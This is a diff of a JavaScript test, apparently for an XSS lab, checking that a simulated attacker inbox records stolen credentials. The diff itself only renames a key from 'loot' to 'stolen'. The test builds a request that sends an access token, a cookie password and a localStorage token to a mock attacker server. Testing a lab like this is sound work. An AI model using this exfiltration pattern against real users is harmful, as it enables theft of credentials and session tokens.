@@ -186,7 +186,7 @@ test("A41: the attacker's inbox keeps what an experiment let be stolen, and nobo
     ['answer:access_token', elsewhere],
     ['cookie:password', 'hunter2'],
   ]
-    .map(([name, value]) => `&loot=${name}:${value}`)
+    .map(([name, value]) => `&stolen=${name}:${value}`)
     .join('')
   const sent = await send(servers.attacker, { path: `/experiments/xss/attacker/inbox?run=${mine}&from=j1${pieces}` })
   expect([sent.status, sent.text]).toEqual([204, ''])
@@ -199,7 +199,7 @@ test("A41: the attacker's inbox keeps what an experiment let be stolen, and nobo
         by: 'inbox',
         from: 'j1',
         notes: {
-          loot: [`localStorage:lab-token:${lab}`],
+          stolen: [`localStorage:lab-token:${lab}`],
           other: Array.from({ length: 4 }, () => 'no credential of this experiment'),
         },
       },
